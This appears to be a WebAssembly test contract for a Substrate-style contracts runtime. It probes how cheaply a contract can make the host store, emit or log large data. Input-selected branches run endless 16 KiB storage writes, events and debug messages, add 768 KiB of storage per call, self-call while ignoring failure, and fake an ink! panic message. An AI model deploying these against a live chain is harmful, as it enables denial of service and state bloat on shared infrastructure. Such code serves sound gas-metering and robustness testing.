;; Amplification through host functions: what a contract can make the host hold, store or
;; hash with little gas. The first input byte picks the attack; bytes 1..5 are a u32 argument.
(module
  (import "seal0" "seal_input" (func $input (param i32 i32)))
  (import "seal0" "seal_set_storage" (func $set_storage (param i32 i32 i32)))
  (import "seal0" "seal_deposit_event" (func $deposit_event (param i32 i32 i32 i32)))
  (import "seal0" "seal_debug_message" (func $debug (param i32 i32) (result i32)))
  (import "seal0" "seal_address" (func $address (param i32 i32)))
  (import "seal1" "seal_call" (func $call (param i32 i32 i64 i32 i32 i32 i32 i32) (result i32)))
  (import "env" "memory" (memory 1 16))
  (data (i32.const 512) "panicked at lib.rs:7:9:\nbalance too low")
  (func (export "deploy"))
  (func (export "call")
    (local $i i32)
    ;; input (up to 16 bytes) at 0, its capacity/length at 16
    (i32.store (i32.const 16) (i32.const 16))
    (call $input (i32.const 0) (i32.const 16))
    (block $done
      ;; 0: overwrite one key with 16 KiB, forever
      (if (i32.eq (i32.load8_u (i32.const 0)) (i32.const 0))
        (then (loop $l
          (call $set_storage (i32.const 64) (i32.const 1024) (i32.const 16384))
          (br $l))))
      ;; 1: 16 KiB events, forever
      (if (i32.eq (i32.load8_u (i32.const 0)) (i32.const 1))
        (then (loop $l
          (call $deposit_event (i32.const 0) (i32.const 0) (i32.const 1024) (i32.const 16384))
          (br $l))))
      ;; 2: empty events, forever
      (if (i32.eq (i32.load8_u (i32.const 0)) (i32.const 2))
        (then (loop $l
          (call $deposit_event (i32.const 0) (i32.const 0) (i32.const 1024) (i32.const 0))
          (br $l))))
      ;; 3: 48 new 16 KiB cells (768 KiB) under keys arg*64 + i: state growth per call
      (if (i32.eq (i32.load8_u (i32.const 0)) (i32.const 3))
        (then
          (local.set $i (i32.const 0))
          (loop $l
            (i32.store (i32.const 64)
              (i32.add (i32.mul (i32.load (i32.const 1)) (i32.const 64)) (local.get $i)))
            (call $set_storage (i32.const 64) (i32.const 1024) (i32.const 16384))
            (local.set $i (i32.add (local.get $i) (i32.const 1)))
            (br_if $l (i32.lt_u (local.get $i) (i32.const 48))))
          (br $done)))
      ;; 4: call self with attack 1 and ignore the callee's failure
      (if (i32.eq (i32.load8_u (i32.const 0)) (i32.const 4))
        (then
          (i32.store (i32.const 96) (i32.const 32))
          (call $address (i32.const 128) (i32.const 96))
          (i32.store8 (i32.const 200) (i32.const 1))
          (drop (call $call (i32.const 8) (i32.const 128) (i64.const 0) (i32.const 300)
                            (i32.const 200) (i32.const 1) (i32.const 0xFFFFFFFF) (i32.const 0)))
          (br $done)))
      ;; 5: a panic with ink!'s debug message
      (if (i32.eq (i32.load8_u (i32.const 0)) (i32.const 5))
        (then
          (drop (call $debug (i32.const 512) (i32.const 39)))
          unreachable))
      ;; 7: 16 KiB debug messages, forever
      (if (i32.eq (i32.load8_u (i32.const 0)) (i32.const 7))
        (then (loop $l
          (drop (call $debug (i32.const 1024) (i32.const 16384)))
          (br $l))))
      ;; 6: one small event and one small write (a normal call)
      (call $deposit_event (i32.const 0) (i32.const 0) (i32.const 1024) (i32.const 8))
      (call $set_storage (i32.const 64) (i32.const 1024) (i32.const 8)))))
